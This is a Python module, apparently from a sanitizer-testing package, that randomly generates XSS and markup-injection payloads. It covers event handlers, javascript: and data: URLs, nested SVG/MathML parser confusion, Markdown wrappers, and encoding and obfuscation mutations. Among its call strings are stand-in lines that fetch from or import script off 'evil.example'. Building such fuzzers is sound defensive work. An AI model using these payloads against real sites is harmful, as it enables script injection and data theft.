# ruff: noqa: E501  rows of tables
"""Hostile pieces of text without end: attacks put together from their parts, and changes of those that are known.

All chance comes from the generator that is handed in: the same one gives the same pieces.
"""

import html
import random
from collections.abc import Callable
from urllib.parse import quote

from hostile.vectors import CALENDAR, FORMULA, LINK, PATH, SCRIPT, TEMPLATE

KNOWN = [*SCRIPT, *TEMPLATE, *FORMULA, *CALENDAR, *PATH, *LINK]
TAGS = """
a abbr address applet area article aside audio b base bgsound blink body br button canvas center code custom-tag
data datalist details dialog div dl embed fieldset figure font footer form frame frameset h1 head header hr html
iframe image img input isindex keygen label layer li link listing main map mark marquee menu meta meter nav nextid
nobr noembed noframes noscript object ol optgroup option output p param picture plaintext portal pre progress q ruby
script section select slot small source span strong style sub summary svg table tbody td template textarea tfoot th
thead time title tr track ul var video wbr xmp xss
""".strip().split()
FOREIGN = """
<svg>{}</svg> <math>{}</math> <svg><foreignObject>{}</foreignObject></svg> <svg><desc>{}</desc></svg>
<svg><title>{}</title></svg> <svg><style>{}</style></svg> <math><mi>{}</mi></math> <math><mtext>{}</mtext></math>
<math><annotation-xml+encoding="text/html">{}</annotation-xml></math> <math><mglyph>{}</mglyph></math>
<math><malignmark>{}</malignmark></math> <svg><use+href="#x"/>{}</svg>
<svg><set+attributeName="href"+to="{}"/></svg> <table>{}</table> <select>{}</select> <template>{}</template>
<noscript>{}</noscript> <textarea>{}</textarea> <title>{}</title> <style>{}</style> <xmp>{}</xmp>
<iframe>{}</iframe> <noembed>{}</noembed> <plaintext>{} <form><form>{}</form></form> <a><a>{}</a></a> <!--{}-->
<!--{}--!> <!-{}> <?xml+{}?> <![CDATA[{}]]> <!DOCTYPE+{}>
""".strip().split()
EVENTS = """
abort afterprint animationend animationstart auxclick beforecopy beforeinput beforetoggle begin blur bounce cancel
canplay change click close contextmenu copy cut dblclick drag dragend dragenter drop durationchange end ended error
finish focus focusin focusout formdata fullscreenchange hashchange input invalid keydown keypress keyup load
loadedmetadata loadstart message mousedown mouseenter mousemove mouseover mouseup pagehide pageshow paste play
pointerdown pointerenter pointerover pointerrawupdate popstate progress repeat reset resize scroll scrollend search
select selectstart show start submit suspend timeupdate toggle touchstart transitionend transitionrun unload
volumechange webkitanimationstart wheel
""".strip().split()
HOLDERS = """
href src action formaction data poster background srcset xlink:href ping manifest code cite longdesc
""".strip().split()
SCHEMES = ("javascript:", "JAVASCRIPT:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "vbscript:",
           "livescript:", "mocha:", "blob:", "filesystem:", "view-source:", "jar:", "file:///", "feed:javascript:",
           "//evil.example/", "\\\\evil.example\\", "http://evil.example/", "ws://evil.example/", "about:", "intent:")  # fmt: skip
CALLS = ("fired()", "fired`1`", "fired&#40;&#41;", "fired\\u0028\\u0029", "self['fired']()", "top[`fired`]``",
         "setTimeout(fired)", "eval('fired()')", "new Function`fired\\x28\\x29```", "[1].find(fired)", "throw/**/fired()",
         "import('//evil.example/x.js')", "fetch('//evil.example/')", "location='javascript:fired()'", "\\u0066ired()")  # fmt: skip
SPACES = (
    " ",
    "\t",
    "\n",
    "\r",
    "\f",
    "/",
    "\x0b",
    "\u00a0",
    "\u3000",
    "/**/",
    "",
    "\x00",
    "+",
    "%0a",
    "&#10;",
    "&Tab;",
)
QUOTES = ('"', "'", "", "`", "&quot;", "&#39;", "&#x22", "\u201d", "\uff02", '\\"', '""', "\u02ba")
BREAKS = ("", ">", '">', "'>", "-->", "]]>", "?>", "%>", "}}", "</", "/>", "\\", "</title>", "</script>", "</style>", "\n\n",
          "</textarea>", "</noscript>", "</template>", "</svg>", "</math>", "</p>", "</a>", "*/", "*", "`", "```\n", "---\n")  # fmt: skip
CONTROLS = (
    "".join(map(chr, [*range(32), *range(127, 160)]))
    + "\u00ad\u061c\u200b\u200e\u202a\u202e\u2028\u2066\ufeff\ufffe\ufff9\U000e0001"
)
LOOKS = str.maketrans("<>\"'&/:()=", "\uff1c\uff1e\uff02\uff07\uff06\uff0f\uff1a\uff08\uff09\uff1d")
MARKDOWN = ("[x]({})", "![x]({})", "<{}>", "[x]: {}\n\n[x]", '[x]({} "{}")', "[{}](https://a.example/)", "![{}](x)", "`{}`",
            "```\n{}\n```", "> {}", "# {}", "* {}", "1. {}", "    {}", "| {} |\n|---|\n| {} |", "**{}**", "[^1]\n\n[^1]: {}",
            "*[Oman]: {}", "{}\n===", "{}{{: onclick=fired() }}", "[x][{}]", "<div markdown=1>{}</div>", "{}  \n{}", "\\{}")  # fmt: skip


def take_known(chance: random.Random) -> str:
    """Take an attack as it is known."""
    return chance.choice(KNOWN)


def make_handler(chance: random.Random) -> str:
    """Make an element that runs something on an event."""
    tag, event, call = chance.choice(TAGS), chance.choice(EVENTS), chance.choice(CALLS)
    space, mark, end = (
        chance.choice(SPACES),
        chance.choice(QUOTES),
        chance.choice((">", "/>", "", " //", ">x</" + tag + ">")),
    )
    more = chance.choice(
        ("", "autofocus", "open", "tabindex=1", "src=x", "href=#", "style=animation-name:x", "contenteditable")
    )
    return f"<{tag}{space}{more}{space}on{event}={mark}{call}{mark}{end}"


def make_link(chance: random.Random) -> str:
    """Make an element that leads or loads to an address that runs something or is foreign."""
    tag, holder = chance.choice(TAGS), chance.choice(HOLDERS)
    mark, space = chance.choice(QUOTES), chance.choice(SPACES)
    return f"<{tag}{space}{holder}={mark}{make_address(chance)}{mark}>x</{tag}>"


def make_address(chance: random.Random) -> str:
    """Make an address, its scheme more or less hidden."""
    scheme = chance.choice(SCHEMES)
    at = chance.randrange(len(scheme))
    changes = (
        lambda: scheme,
        lambda: scheme[:at] + chance.choice(SPACES) + scheme[at:],
        lambda: chance.choice(SPACES) + scheme,
        lambda: "".join(chance.choice((one.upper(), one.lower())) for one in scheme),
        lambda: "".join(encode_character(one, chance) for one in scheme),
        lambda: quote(scheme, safe=""),
    )
    return chance.choice(changes)() + chance.choice(CALLS)


def make_nest(chance: random.Random) -> str:
    """Put an attack where another parser, or the same one a second time, reads it differently."""
    inner = chance.choice((take_known, make_handler, make_link))(chance)
    for _ in range(chance.randint(1, 3)):
        inner = chance.choice(FOREIGN).replace("+", " ").replace("{}", inner)
    return inner


def make_markdown(chance: random.Random) -> str:
    """Put an attack into marks of Markdown."""
    inner = chance.choice((take_known, make_address, make_handler))(chance)
    return chance.choice(MARKDOWN).replace("{{", "{").replace("}}", "}").replace("{}", inner)


MAKERS: tuple[Callable[[random.Random], str], ...] = (take_known, make_handler, make_link, make_nest, make_markdown)


def encode_character(one: str, chance: random.Random) -> str:
    """Write a character as one of its references."""
    number = ord(one)
    forms = (f"&#{number};", f"&#x{number:x};", f"&#x{number:06X};", f"&#{number:07}", f"&amp;#{number};", one, one)
    return chance.choice(forms)


def encode_some(text: str, chance: random.Random) -> str:
    return "".join(encode_character(one, chance) if chance.random() < 0.4 else one for one in text)


def insert_controls(text: str, chance: random.Random) -> str:
    for _ in range(chance.randint(1, 6)):
        at = chance.randrange(len(text) + 1)
        text = text[:at] + chance.choice(CONTROLS) + text[at:]
    return text


def cut_and_repeat(text: str, chance: random.Random) -> str:
    start, end = sorted(chance.randrange(len(text) + 1) for _ in range(2))
    return text[:start] + text[start:end] * chance.choice((0, 2, 2, 3, 40)) + text[end:]


CHANGES: tuple[Callable[[str, random.Random], str], ...] = (
    encode_some,
    insert_controls,
    cut_and_repeat,
    lambda text, _: html.escape(text),
    lambda text, _: html.escape(html.escape(text)),
    lambda text, _: quote(text, safe=""),
    lambda text, _: text.translate(LOOKS),
    lambda text, _: text.swapcase(),
    lambda text, _: text.encode("utf-7").decode("ascii"),
    lambda text, _: "".join(f"\\u{ord(one):04x}" for one in text[:60]),
    lambda text, _: text[::-1],
    lambda text, chance: chance.choice(BREAKS) + text,
    lambda text, chance: text + chance.choice(BREAKS),
    lambda text, chance: text + take_known(chance),
    lambda text, _: text.replace("<", "<<"),
    lambda text, _: text.replace("<", "<\x00"),
    lambda text, _: f"\u202e{text}\u2066",
    lambda text, _: f"{text} " * 30,
)


def make_piece(chance: random.Random) -> str:
    """Make one hostile piece of text."""
    piece = chance.choice(MAKERS)(chance)
    for _ in range(chance.choice((0, 0, 0, 1, 1, 2, 3))):
        piece = chance.choice(CHANGES)(piece, chance)
    return piece[:3000]
